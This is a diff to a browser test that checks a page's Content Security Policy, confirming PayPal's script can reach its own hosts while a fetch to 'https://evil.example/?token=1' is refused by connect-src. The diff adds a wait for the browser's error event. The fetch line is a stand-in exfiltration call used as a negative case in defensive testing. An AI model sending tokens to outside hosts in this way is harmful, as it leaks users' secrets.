@@ -64,6 +64,8 @@ it('lets PayPal’s own script do what it has to, and nobody else’s', async ()
     'https://www.sandbox.paypal.com/xoplatform/logger',
   ]);
   visit.expectNoConsoleErrors();
+  // The browser tells of it some time after it has refused.
+  const told = page.waitForEvent('pageerror');
   const sent = await page.evaluate(async () => {
     try {
       await fetch('https://evil.example/?token=1', { mode: 'no-cors' });
@@ -73,6 +75,7 @@ it('lets PayPal’s own script do what it has to, and nobody else’s', async ()
     }
   });
   expect([sent, [...asked].filter((address) => address.includes('evil'))]).toEqual([false, []]);
+  await told;
   visit.allowConsoleError(/./);
   await expect(visit.close()).rejects.toThrow('connect-src kept out https://evil.example');
 });
